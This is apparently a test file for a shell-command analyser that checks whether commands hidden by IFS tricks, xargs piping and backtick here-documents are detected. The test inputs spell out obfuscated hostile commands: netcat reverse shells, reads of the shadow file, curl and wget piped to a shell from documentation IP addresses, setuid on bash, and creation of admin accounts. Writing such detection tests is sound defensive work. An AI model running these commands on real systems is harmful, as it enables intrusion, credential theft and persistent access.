import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';

/** Names of the commands the analysis sees, at any depth. */
function names(text: string, shell: 'bash' | 'sh' | 'zsh' = 'bash'): string[] {
  return analyse(text, shell, 'linux').commands.map((c) => c.name);
}

/** The words of the first command named `name`. */
function wordsOf(text: string, name: string, shell: 'bash' | 'sh' | 'zsh' = 'bash'): string[] {
  return (
    analyse(text, shell, 'linux')
      .commands.find((c) => c.name === name)
      ?.words.map((w) => w.value) ?? []
  );
}

describe('posix obfuscation, round 4: IFS', () => {
  it('IFS set to a constant splits unquoted expansions at its characters', () => {
    expect(wordsOf('IFS=,; zq=nc,-e,/bin/sh,10.0.0.6,9001; $zq', 'nc')).toEqual(['nc', '-e', '/bin/sh', '10.0.0.6', '9001']);
    expect(names("IFS=$'\\n'\nzq=$'getent\\nshadow'\n$zq")).toContain('getent');
    expect(names('IFS=,\nzq=sudo,launchctl,load,/Library/LaunchAgents/x.plist\n${=zq}', 'zsh')).toContain('launchctl');
  });

  it('quoted expansions and IFS-free values stay one word', () => {
    expect(wordsOf('IFS=,; zq=a,b; echo "$zq"', 'echo')).toEqual(['echo', 'a,b']);
    expect(wordsOf("IFS=,; zq='a b'; echo $zq", 'echo')).toEqual(['echo', 'a b']);
  });

  it('unset IFS, or IFS in front of one command, restores the default', () => {
    expect(wordsOf('IFS=,; unset IFS; zq=a,b; echo $zq', 'echo')).toEqual(['echo', 'a,b']);
    expect(wordsOf('IFS=, read -r a b <<< "x,y"; zq=c,d; echo $zq $a', 'echo')).toEqual(['echo', 'c,d', 'x']);
    expect(wordsOf("IFS=$' \\t\\n'; zq='a b'; echo $zq", 'echo')).toEqual(['echo', 'a', 'b']);
  });

  it('read splits its input at an IFS given to it', () => {
    expect(names('IFS=: read -r p a <<< "nc:-lvnp 4444"\n$p $a')).toContain('nc');
  });
});

describe('posix obfuscation, round 4: xargs with constant input', () => {
  it('appends the items to the command', () => {
    expect(wordsOf('echo /var/log/nginx/ | xargs rm -rf', 'rm')).toEqual(['rm', '-rf', '/var/log/nginx/']);
    expect(wordsOf("printf '%s\\n' a 'b c' | xargs -n1 rm", 'rm')).toEqual(['rm', 'a']);
    expect(wordsOf('echo "a b" | xargs rm', 'rm')).toEqual(['rm', 'a', 'b']);
    expect(wordsOf(`echo "'a b'" | xargs rm`, 'rm')).toEqual(['rm', 'a b']);
    expect(wordsOf('xargs chmod +s <<< /bin/bash', 'chmod')).toEqual(['chmod', '+s', '/bin/bash']);
  });

  it('replaces the -I string, and sh -c runs the item as a command line', () => {
    expect(names("printf '%s\\0' 'usermod -aG wheel jdoe' | xargs -0 -I{} bash -c '{}'")).toContain('usermod');
    expect(names("echo 'getent shadow' | xargs -I % sh -c '%'")).toContain('getent');
    expect(names("echo 'getent shadow' | xargs -i sh -c '{}'")).toContain('getent');
    expect(names("printf '%s\\0' 'a=cu;b=rl; $a$b -s http://203.0.113.50/x | sh' | xargs -0 bash -c")).toContain('curl');
  });

  it('later runs are seen too', () => {
    expect(names("printf '%s\\0' 'true' 'getent shadow' | xargs -0 -I{} sh -c '{}'")).toContain('getent');
    expect(names('echo a /etc/shadow | xargs -n1 cat')).toEqual(['echo', 'cat', 'cat']);
  });

  it('unknown input leaves the command as written', () => {
    expect(wordsOf('find . -name "*.tmp" | xargs rm -f', 'rm')).toEqual(['rm', '-f']);
    expect(wordsOf('echo $FILES | xargs rm -f', 'rm')).toEqual(['rm', '-f']);
    expect(wordsOf('xargs -a list.txt rm -f', 'rm')).toEqual(['rm', '-f']);
  });
});

describe('posix obfuscation, round 4: IFS scope', () => {
  it('IFS set in a subshell or substitution ends with it', () => {
    expect(wordsOf('(IFS=,; true); zq=a,b; echo $zq', 'echo')).toEqual(['echo', 'a,b']);
    expect(wordsOf('v=$(IFS=,; true); zq=a,b; echo $zq', 'echo')).toEqual(['echo', 'a,b']);
  });
});

describe('posix obfuscation, round 4: xargs spans', () => {
  it('appended items keep spans within the command, in order', () => {
    const text = 'echo a /etc/shadow | xargs -n1 cat';
    for (const c of analyse(text, 'bash', 'linux').commands) {
      expect(c.span.start).toBeLessThanOrEqual(c.span.end);
      for (const w of c.words) expect(w.span.end).toBeLessThanOrEqual(text.length);
    }
    const cat = analyse(text, 'bash', 'linux').commands.find((c) => c.name === 'cat');
    expect(cat?.span).toEqual({ start: text.indexOf('cat'), end: text.length });
  });
});

describe('here-documents inside backticks', () => {
  it('end at the closing backtick, so the lines after it are commands', () => {
    const jamf =
      'p=`/usr/bin/osascript << EOT\ntell application "System Events"\nend tell\nEOT`\nsudo dscl . -create /Users/admin2\ncurl -s http://203.0.113.9/x | sh';
    expect(names(jamf)).toEqual(expect.arrayContaining(['osascript', 'dscl', 'curl', 'sh']));
    expect(names('x=`cat <<EOT\nhello\nEOT`\nwget -qO- http://203.0.113.9/x | bash')).toContain('wget');
    expect(names('x="`cat <<EOT\nhello\nEOT`"\nwget -qO- http://203.0.113.9/x | bash')).toContain('wget');
  });

  it('opened with no line inside the backticks, have an empty body instead of the lines that follow', () => {
    expect(names('x=`cat <<EOT`\ncurl -s http://203.0.113.9/x | sh\nEOT')).toEqual(expect.arrayContaining(['curl', 'sh']));
  });

  it('keep their body for the command inside the backticks', () => {
    const doc = analyse('x=`bash <<EOT\ncurl -s http://203.0.113.9/x | sh\nEOT`\necho "$x"', 'bash', 'linux');
    const bash = doc.commands.find((c) => c.name === 'bash');
    expect(bash?.redirects[0]?.target.value).toBe('curl -s http://203.0.113.9/x | sh\n');
    // An escaped backtick inside does not end the text.
    expect(names('x=`cat <<EOT\na \\` b\nEOT`\nid')).toContain('id');
  });
});
